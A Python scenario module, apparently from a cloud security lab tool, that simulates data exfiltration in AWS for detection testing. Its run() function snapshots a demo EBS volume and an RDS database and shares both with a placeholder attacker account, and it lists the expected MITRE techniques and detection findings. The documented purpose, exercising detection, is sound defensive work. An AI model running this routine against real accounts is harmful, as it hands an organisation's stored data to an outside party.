"""snapshot-exfiltration: an EBS snapshot and an RDS snapshot shared with an outside account.

ops-admin's key from ``ATTACKER_IP``: a fresh snapshot of the web instance's volume is created and
its ``createVolumePermission`` granted to ``ATTACKER_ACCOUNT``; a manual snapshot of the reporting
database is created and its ``restore`` attribute granted to the same account. The outside account
can then copy both out of the organisation.
"""

from __future__ import annotations

from datetime import UTC, datetime

from cloudwarden.core.errors import RuntimeFailure
from cloudwarden.lab import demo_org as org
from cloudwarden.lab.scenarios.base import Scenario, ScenarioContext, pages, tolerate


def db_snapshot_id(now: datetime) -> str:
    return f"{org.RDS_PUBLIC}-export-{now:%Y%m%d}"


def run(ctx: ScenarioContext) -> None:
    attacker = ctx.actor(f"prod/{org.USER_OPS_ADMIN}", source_ip=org.ATTACKER_IP, user_agent=org.ATTACKER_USER_AGENT)
    ec2 = attacker.client("ec2")
    volumes = pages(ec2, "describe_volumes", "Volumes")
    web_id = ctx.resource(f"prod/instance/{org.INSTANCE_WEB_TAG}")
    attached = [v for v in volumes if any(a.get("InstanceId") == web_id for a in v.get("Attachments", []))]
    volume = (attached or volumes or [None])[0]
    if volume is None:
        raise RuntimeFailure("no EBS volume in prod to snapshot (was the lab seeded?)")
    snapshot_id = ec2.create_snapshot(VolumeId=volume["VolumeId"], Description="backup")["SnapshotId"]
    ec2.describe_snapshot_attribute(SnapshotId=snapshot_id, Attribute="createVolumePermission")
    ec2.modify_snapshot_attribute(
        SnapshotId=snapshot_id, Attribute="createVolumePermission", OperationType="add",
        UserIds=[org.ATTACKER_ACCOUNT],
    )

    rds = attacker.client("rds")
    rds.describe_db_instances()
    snap_id = db_snapshot_id(datetime.now(UTC))
    tolerate(lambda: rds.create_db_snapshot(DBInstanceIdentifier=org.RDS_PUBLIC, DBSnapshotIdentifier=snap_id),
             "DBSnapshotAlreadyExists")
    rds.modify_db_snapshot_attribute(DBSnapshotIdentifier=snap_id, AttributeName="restore",
                                     ValuesToAdd=[org.ATTACKER_ACCOUNT])


SCENARIO = Scenario(
    name="snapshot-exfiltration",
    title="EBS and RDS snapshots shared with an outside account",
    description=(
        f"prod/{org.USER_OPS_ADMIN}'s key from {org.ATTACKER_IP} (Kali AWS CLI): DescribeVolumes, CreateSnapshot of "
        f"{org.INSTANCE_WEB_TAG}'s volume, DescribeSnapshotAttribute, ModifySnapshotAttribute createVolumePermission "
        f"add {org.ATTACKER_ACCOUNT}; DescribeDBInstances, CreateDBSnapshot {org.RDS_PUBLIC}-export-<yyyymmdd>, "
        f"ModifyDBSnapshotAttribute restore add {org.ATTACKER_ACCOUNT}."
    ),
    mitre=("T1537", "T1578.001"),
    finding_types=(
        "Exfiltration:IAMUser/AnomalousBehavior",
        "UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom",
        "PenTest:IAMUser/KaliLinux",
    ),
    run=run,
)
